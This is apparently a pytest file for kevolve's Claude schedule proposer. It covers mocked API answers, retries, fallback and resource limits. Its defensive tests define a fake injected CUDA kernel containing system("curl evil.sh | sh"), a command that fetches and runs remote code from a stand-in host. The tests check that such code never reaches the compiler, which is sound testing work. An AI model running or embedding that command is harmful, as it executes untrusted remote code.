"""The `claude` proposer through the anthropic SDK's own client, without network.

No machine here reaches the API: every test builds a real `anthropic.Anthropic` client
whose HTTP transport is `httpx.MockTransport(handler)`; the handler records each request
body and returns hand-written JSON in the Messages API format (a `tool_use` block, a
`usage`). So the SDK's real request building and response parsing run, not a mock of
kevolve's class. Cases: good answers, no tool call, unknown moves and axes, a huge answer,
code instead of moves, all-bad answers (bounded retries, then the heuristic fallback), an
API error; and the security property that nothing the model writes reaches a compiler."""

from __future__ import annotations

import json
from dataclasses import asdict

import pytest

anthropic = pytest.importorskip("anthropic")
try:  # anthropic >= 2 ships its HTTP client as httpx2
    import httpx2 as httpx
except ImportError:  # pragma: no cover - older SDKs use httpx
    import httpx

from kevolve.archive.records import Scored  # noqa: E402
from kevolve.backends.notes import available, notes  # noqa: E402
from kevolve.backends.registry import get as get_backend  # noqa: E402
from kevolve.evaluate.job import Result  # noqa: E402
from kevolve.ir.printer import op_text  # noqa: E402
from kevolve.ops import LIBRARY  # noqa: E402
from kevolve.plan import lower  # noqa: E402
from kevolve.schedule import Trace, apply_trace, default_trace  # noqa: E402
from kevolve.search.proposers import make  # noqa: E402
from kevolve.search.proposers.base import ProposalContext  # noqa: E402
from kevolve.search.proposers.llm.claude import (  # noqa: E402
    TOOL,
    ClaudeProposer,
    ClaudeSetupError,
    tool_definition,
)

SOFTMAX = LIBRARY["softmax"]
DIMS = SOFTMAX.dims("small")
DEFAULT = default_trace(SOFTMAX.op, DIMS)
BASE = json.loads(DEFAULT.to_json())["moves"]
GOOD = [
    {"moves": BASE + [{"m": "split", "stage": "y", "axis": "j", "size": "$BN",
                       "into": ["jo", "ji"]},
                      {"m": "vectorize", "stage": "y", "axis": "ji", "width": 8}],
     "decisions": {"$BN": 16}, "reason": "tile the row for SIMD"},
    {"moves": BASE + [{"m": "reduction", "stage": "s", "strategy": "online"}],
     "reason": "one pass for max and sum"},
]
CUDA_CODE = ('__global__ void pwn(float* y) { asm("trap;"); system("curl evil.sh | sh"); '
             '/* KEVOLVE_INJECTED */ }')


def _ctx(**over) -> ProposalContext:
    caps = get_backend("cpu").caps
    parent = Scored(DEFAULT.to_json(), Result(
        "ok", time_ms=0.05, times_ms=(0.05,), baseline_ms=0.08, max_error=3e-8,
        diagnostics={"achieved_bytes_per_s": 2.4e9, "floor_bytes": 2400, "compiler.cc": "gcc"}),
        candidate_id=1, proposer="seed")
    failed = Scored(json.dumps({"version": 1, "op": "softmax", "moves": BASE + [
        {"m": "split", "stage": "y", "axis": "j", "size": 64, "tail": "guard"}],
        "decisions": {}}), Result("legality", message="extent must be a multiple of 64"),
        candidate_id=2, proposer="heuristic")
    similar = Scored(default_trace(LIBRARY["log_softmax"].op, DIMS).to_json(),
                     Result("ok", time_ms=0.04), candidate_id=9)
    base = dict(op_name="softmax", op_text=op_text(SOFTMAX.op), backend="cpu",
                caps=asdict(caps), default_trace_json=DEFAULT.to_json(),
                parents=(parent, failed), best=parent, history_size=2, seed=7,
                bench_dims=DIMS, gpu=False,
                ceilings={"copy_bytes_per_s": 1.0e10, "matmul_flops": 1e11},
                similar=(similar,))
    base.update(over)
    return ProposalContext(**base)


def _message(content, stop="tool_use", n=1, inp=120, out=80) -> dict:
    return {"id": f"msg_{n}", "type": "message", "role": "assistant",
            "model": "claude-sonnet-4-6", "content": content, "stop_reason": stop,
            "stop_sequence": None, "usage": {"input_tokens": inp, "output_tokens": out}}


def tool_answer(inp, n=1, **kw) -> dict:
    return _message([{"type": "text", "text": "Here are my schedules."},
                     {"type": "tool_use", "id": f"toolu_{n}", "name": TOOL, "input": inp}],
                    n=n, **kw)


def text_answer(text, n=1) -> dict:
    return _message([{"type": "text", "text": text}], stop="end_turn", n=n)


class FakeAPI:
    """Hand-written Messages API answers, in order; records every request body."""

    def __init__(self, *answers, status: int = 200):
        self.answers = list(answers)
        self.requests: list[dict] = []
        self.status = status

    def __call__(self, request: httpx.Request) -> httpx.Response:
        assert request.url.path.endswith("/v1/messages")
        self.requests.append(json.loads(request.content))
        if self.status != 200:
            return httpx.Response(self.status, json={
                "type": "error", "error": {"type": "api_error", "message": "overloaded"}})
        return httpx.Response(200, json=self.answers.pop(0))

    def client(self):
        return anthropic.Anthropic(api_key="test", max_retries=0,
                                   http_client=httpx.Client(transport=httpx.MockTransport(self)))


class UsageLog:
    """What the proposer needs of kevolve.archive.Archive: record_usage."""

    def __init__(self):
        self.rows = []

    def record_usage(self, proposer, model, input_tokens, output_tokens, candidate_id=None,
                     note=""):
        self.rows.append((proposer, model, input_tokens, output_tokens, candidate_id, note))


def proposer(api: FakeAPI, **kw) -> ClaudeProposer:
    return ClaudeProposer(client=api.client(), **kw)


def _legal(trace_json: str) -> None:
    t = Trace.from_json(trace_json)
    lower(apply_trace(SOFTMAX.op, t), DIMS)


def _follow_up_result(req: dict) -> dict:
    """The tool_result block of a follow-up request, and its parsed errors."""
    last = req["messages"][-1]
    assert last["role"] == "user"
    (block,) = [b for b in last["content"] if b["type"] == "tool_result"]
    return block


def test_good_answer_gives_validated_proposals_and_records_usage():
    api = FakeAPI(tool_answer({"traces": GOOD}))
    log = UsageLog()
    p = proposer(api, archive=log)
    props = p.propose(_ctx(), 2)
    assert len(props) == 2 and not p.fell_back
    for prop in props:
        _legal(prop.trace_json)
        assert prop.proposer == "claude" and prop.parent_id == 1
        assert json.loads(prop.trace_json)["op"] == "softmax"
        assert prop.trace_json == Trace.from_json(prop.trace_json).to_json()  # canonical
    assert props[0].note == "tile the row for SIMD"
    assert log.rows == [("claude", "claude-sonnet-4-6", 120, 80, None,
                         "attempt 0: accepted 2 trace(s)")]
    assert len(api.requests) == 1


def test_request_carries_ir_caps_grammar_parents_notes_and_similar_ops():
    api = FakeAPI(tool_answer({"traces": GOOD}))
    p = proposer(api, model="claude-test-model")
    p.propose(_ctx(), 2)
    req = api.requests[0]
    assert req["model"] == "claude-test-model"
    assert req["tool_choice"] == {"type": "tool", "name": TOOL}
    (tool,) = req["tools"]
    assert tool == json.loads(json.dumps(tool_definition(2)))  # plain JSON Schema
    # the grammar goes once, in the system text; the schema only frames the answer
    assert "oneOf" not in json.dumps(tool) and len(json.dumps(tool)) < 1000
    system, user = req["system"], req["messages"][0]["content"]
    assert "compute_at(stage:name, at:[name])" in system and "- reduction(" in system
    assert op_text(SOFTMAX.op).strip() in user
    assert '"max_tile_elems":65536' in user and '"M":6' in user
    assert '"time_ms":0.05' in user and '"pct_of_copy_ceiling":24.0' in user
    assert "extent must be a multiple of 64" in user  # a failed parent's message
    assert '"op":"log_softmax"' in user  # the similar op's best trace
    assert notes("cpu").splitlines()[1] in system  # the backend's facts
    assert "lowers to (excerpt)" in user and "void" in user  # the best's C source


def test_text_only_answer_is_rejected_then_retry_succeeds():
    api = FakeAPI(text_answer("```c\n" + CUDA_CODE + "\n```"), tool_answer({"traces": GOOD},
                                                                           n=2))
    p = proposer(api)
    props = p.propose(_ctx(), 2)
    assert len(props) == 2 and not p.fell_back
    assert len(api.requests) == 2
    follow = api.requests[1]["messages"]
    assert follow[1]["role"] == "assistant"
    assert follow[2]["role"] == "user" and "answer.no_tool_call" in follow[2]["content"]
    assert [u["note"] for u in p.usage] == ["attempt 0: rejected: answer.no_tool_call",
                                             "attempt 1: accepted 2 trace(s)"]


def test_unknown_move_is_fed_back_as_an_error_tool_result():
    bad = {"traces": [{"moves": BASE + [{"m": "parallelize_everything", "stage": "y"}]}]}
    api = FakeAPI(tool_answer(bad, n=1), tool_answer({"traces": GOOD[:1]}, n=2))
    p = proposer(api)
    props = p.propose(_ctx(), 1)
    assert len(props) == 1 and not p.fell_back
    block = _follow_up_result(api.requests[1])
    assert block["is_error"] is True and block["tool_use_id"] == "toolu_1"
    (err,) = json.loads(block["content"])["errors"]
    assert err["code"] == "schema.unknown_move" and err["move_index"] == len(BASE)
    assert err["trace"] == 0 and "split" in err["hint"]
    # the assistant turn with the tool call precedes the result, as the API requires
    assert api.requests[1]["messages"][1]["content"][1]["id"] == "toolu_1"


def test_unknown_axis_and_stage_are_fed_back():
    bad = {"traces": [
        {"moves": BASE + [{"m": "split", "stage": "y", "axis": "q", "size": 8}]},
        {"moves": BASE + [{"m": "inline", "stage": "nope"}]}]}
    api = FakeAPI(tool_answer(bad), tool_answer({"traces": GOOD}, n=2))
    p = proposer(api)
    assert len(p.propose(_ctx(), 2)) == 2
    errs = json.loads(_follow_up_result(api.requests[1])["content"])["errors"]
    assert [(e["trace"], e["code"]) for e in errs] == [(0, "schema.unknown_axis"),
                                                        (1, "schema.unknown_stage")]


def test_huge_answer_is_rejected_without_being_read():
    huge = {"traces": [dict(GOOD[0], reason="x" * 300)] * 200}
    api = FakeAPI(tool_answer(huge), tool_answer({"traces": GOOD}, n=2))
    p = proposer(api, max_answer_chars=20000)
    assert len(p.propose(_ctx(), 2)) == 2
    (err,) = json.loads(_follow_up_result(api.requests[1])["content"])["errors"]
    assert err["code"] == "answer.too_large" and "20000" in err["message"]


CODE_ANSWERS = [
    ({"traces": [{"moves": CUDA_CODE}]}, "schema.moves"),
    ({"traces": [{"moves": [CUDA_CODE]}]}, "schema.not_object"),
    ({"traces": [dict(GOOD[0], code=CUDA_CODE)]}, "schema.unknown_key"),
    ({"traces": [{"moves": BASE + [{"m": "inline", "stage": "e", "code": CUDA_CODE}]}]},
     "schema.unknown_arg"),
    ({"traces": [{"moves": BASE + [{"m": "split", "stage": "y", "axis": "j", "size": 16,
                                    "into": ["jo", CUDA_CODE[:60]]}]}]}, "schema.bad_type"),
    ({"traces": [{"moves": BASE + [{"m": "inline", "stage": CUDA_CODE[:60]}]}]},
     "schema.bad_type"),
    ({"source": CUDA_CODE}, "answer.schema"),
]


@pytest.mark.parametrize("answer,code", CODE_ANSWERS, ids=[c for _, c in CODE_ANSWERS])
def test_code_instead_of_moves_never_reaches_a_compiler(answer, code, monkeypatch):
    import kevolve.backends.cpu as cpu

    compiled = []
    real = cpu.compile_c
    monkeypatch.setattr(cpu, "compile_c", lambda src, cc: compiled.append(src.text) or
                        real(src, cc))
    api = FakeAPI(tool_answer(answer), tool_answer({"traces": GOOD}, n=2))
    p = proposer(api)
    props = p.propose(_ctx(), 2)
    errs = json.loads(_follow_up_result(api.requests[1])["content"])["errors"]
    assert errs[0]["code"] == code
    # Only the valid second answer's traces come out, re-serialized by kevolve ...
    assert [json.loads(x.trace_json)["moves"] for x in props] == [g["moves"] for g in GOOD]
    # ... and the source kevolve renders and compiles for them holds none of the model's
    # text: neither the code it sent nor the chatter around its tool calls.
    be = get_backend("cpu")
    for prop in props:
        assert "KEVOLVE_INJECTED" not in prop.trace_json and "system(" not in prop.trace_json
        t = Trace.from_json(prop.trace_json)
        sched = apply_trace(SOFTMAX.op, t)
        src = be.render(lower(sched, DIMS))
        be.build(src)
        for needle in ("KEVOLVE_INJECTED", "curl", "pwn", "Here are my schedules",
                       "tile the row for SIMD", "one pass for max and sum"):
            assert needle not in src.text
    assert compiled and not any("KEVOLVE_INJECTED" in s or "curl" in s for s in compiled)


def test_all_bad_answers_fall_back_to_the_heuristic_after_bounded_retries():
    bad = {"traces": [{"moves": BASE + [{"m": "teleport", "stage": "y"}]}]}
    api = FakeAPI(*[tool_answer(bad, n=k) for k in range(1, 10)])
    log = UsageLog()
    p = proposer(api, max_retries=2, archive=log)
    props = p.propose(_ctx(), 3)
    assert len(api.requests) == 3  # one try plus max_retries, no more
    assert p.fell_back and "schema.unknown_move" in p.fallback_reason
    assert props and all(x.proposer == "claude->heuristic" for x in props)
    assert all("fell back to heuristic" in x.note for x in props)
    for prop in props:
        _legal(prop.trace_json)
    assert [r[5].split(":")[0] for r in log.rows] == ["attempt 0", "attempt 1", "attempt 2",
                                                      "claude fell back to heuristic"]
    # The flag is per call: a good answer next time clears it.
    api.answers = [tool_answer({"traces": GOOD}, n=20)]
    assert len(p.propose(_ctx(), 2)) == 2 and not p.fell_back


def test_duplicates_of_evaluated_traces_are_not_proposed():
    dup = {"traces": [{"moves": BASE}]}  # the default trace, already evaluated
    api = FakeAPI(tool_answer(dup), tool_answer({"traces": GOOD}, n=2))
    p = proposer(api)
    assert len(p.propose(_ctx(), 2)) == 2
    (err,) = json.loads(_follow_up_result(api.requests[1])["content"])["errors"]
    assert err["code"] == "answer.duplicate"


def test_api_error_falls_back_at_once():
    api = FakeAPI(status=529)
    p = proposer(api)
    props = p.propose(_ctx(), 2)
    assert p.fell_back and "API error" in p.fallback_reason and len(api.requests) == 1
    assert props and all(x.proposer == "claude->heuristic" for x in props)


def test_made_by_name_and_needs_a_key(monkeypatch):
    api = FakeAPI(tool_answer({"traces": GOOD}))
    p = make("claude", seed=3, client=api.client(), model="m")
    assert isinstance(p, ClaudeProposer) and p.model == "m"
    monkeypatch.delenv("ANTHROPIC_API_KEY", raising=False)
    monkeypatch.delenv("ANTHROPIC_AUTH_TOKEN", raising=False)
    with pytest.raises(ClaudeSetupError, match="ANTHROPIC_API_KEY"):
        make("claude")
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-test")
    assert make("claude").client.api_key == "sk-test"


def test_hardware_notes_ship_for_every_backend():
    assert available() == ["cpu", "cuda", "hip", "mtia", "numba", "triton"]
    for b in available():
        lines = notes(b).strip().splitlines()
        assert 10 <= len(lines) <= 21, (b, len(lines))
    assert notes("no-such/../backend") == ""


def test_similar_ops_come_from_the_archive_most_alike_first(tmp_path):
    from kevolve.archive import Archive
    from kevolve.search.proposers.llm.similar import similar_ops

    with Archive(tmp_path / "a.db") as a:
        for name in ("log_softmax", "jagged_softmax", "swish_add", "gemm"):
            d = LIBRARY[name]
            cid, _ = a.add_candidate(a.op_id(d.op), default_trace(d.op, d.dims("small")))
            a.add_result(cid, "hw", "cpu", {}, Result("ok", time_ms=1.0), None,
                         d.shape("small"), [0])
        got = similar_ops(a, SOFTMAX.op, "cpu", k=2)
        assert [Trace.from_json(s.trace_json).op for s in got] == ["jagged_softmax",
                                                                   "log_softmax"]
        assert similar_ops(a, SOFTMAX.op, "triton") == ()


def test_usage_goes_to_a_real_archive(tmp_path):
    from kevolve.archive import Archive

    with Archive(tmp_path / "a.db") as a:
        p = proposer(FakeAPI(text_answer("no"), tool_answer({"traces": GOOD}, n=2)), archive=a)
        assert len(p.propose(_ctx(), 2)) == 2
        assert a.usage_totals() == {("claude", "claude-sonnet-4-6"): {
            "calls": 2, "input_tokens": 240, "output_tokens": 160}}


def test_evolve_with_claude_on_the_fake_transport(tmp_path):
    """The search end to end: Claude's valid answer becomes a candidate labelled `claude`;
    when every answer is bad the candidates say `claude->heuristic`, and why, in the
    archive; the search finishes its budget either way."""
    import sqlite3

    from kevolve.search import SearchConfig, evolve

    bad = {"traces": [{"moves": "__global__ void k() {}"}]}
    api = FakeAPI(tool_answer({"traces": GOOD[:1]}, n=1),
                  *[tool_answer(bad, n=k) for k in range(2, 40)])
    cfg = SearchConfig("softmax", "cpu", budget=4, shape="small", db=str(tmp_path / "a.db"),
                       threads=1, repeat=3, timeout_s=600, proposer="claude",
                       proposer_options={"client": api.client(), "max_retries": 1})
    s = evolve(cfg)
    assert s.evaluated + s.reused == 4 and s.best is not None  # reused: identical code
    with sqlite3.connect(tmp_path / "a.db") as c:
        rows = c.execute("select proposer, note, trace_json from candidates order by id").fetchall()
    by = {}
    for proposer_name, note, tj in rows:
        by.setdefault(proposer_name, []).append((note, tj))
    assert by["seed"] and len(by["claude"]) == 1
    assert json.loads(by["claude"][0][1])["moves"] == GOOD[0]["moves"]
    assert by["claude"][0][0] == "tile the row for SIMD"
    assert by["claude->heuristic"] and all("claude fell back to heuristic" in n and
                                           "schema.moves" in n for n, _ in by["claude->heuristic"])
    assert not any("__global__" in tj for _, _, tj in rows)


def _gemm_moves(bm: int, bn: int, bk: int, warps: int, stages: int) -> dict:
    return {"decisions": {"$BM": bm, "$BN": bn, "$BK": bk}, "reason": "bigger tiles",
            "moves": [
                {"m": "split", "stage": "y", "axis": "i", "size": "$BM", "into": ["io", "ii"]},
                {"m": "split", "stage": "y", "axis": "j", "size": "$BN", "into": ["jo", "ji"]},
                {"m": "reorder", "stage": "y", "order": ["io", "jo", "ii", "ji"]},
                {"m": "bind", "stage": "y", "axis": "io", "to": "grid"},
                {"m": "bind", "stage": "y", "axis": "jo", "to": "grid"},
                {"m": "launch", "num_warps": warps, "num_stages": stages},
                {"m": "compute_at", "stage": "acc", "at": ["y", "jo"]},
                {"m": "split", "stage": "acc", "axis": "k", "size": "$BK"}]}


def test_a_trace_over_the_devices_limits_is_fed_back_and_counted():
    """On a GPU the prompt names the device's limits, and a trace whose estimate is over
    them is refused like an illegal one: the model reads the numbers and what to change."""
    gemm = LIBRARY["gemm_bias_gelu"]
    caps = asdict(get_backend("triton").caps)
    limits = {"registers_per_thread": 255, "shared_bytes": 232448}
    ctx = ProposalContext("gemm_bias_gelu", op_text(gemm.op), "triton", caps,
                          default_trace(gemm.op, gemm.dims("gpu")).to_json(), (), None, 0, 1,
                          gemm.dims("gpu"), True, {}, (), limits)
    over, fits = _gemm_moves(128, 512, 64, 8, 4), _gemm_moves(128, 256, 64, 8, 4)
    api = FakeAPI(tool_answer({"traces": [over]}, n=1), tool_answer({"traces": [fits]}, n=2))
    p = proposer(api)
    (prop,) = p.propose(ctx, 1)
    assert json.loads(prop.trace_json)["decisions"]["$BN"] == 256 and not p.fell_back
    assert "Per-program limits" in api.requests[0]["messages"][0]["content"]
    assert "232448" in api.requests[0]["messages"][0]["content"]
    (err,) = json.loads(_follow_up_result(api.requests[1])["content"])["errors"]
    assert err["code"] == "resources.shared_memory" and "327680" in err["message"]
    assert "num_stages" in err["hint"]
    assert p.skipped["resources.shared_memory"] == 1
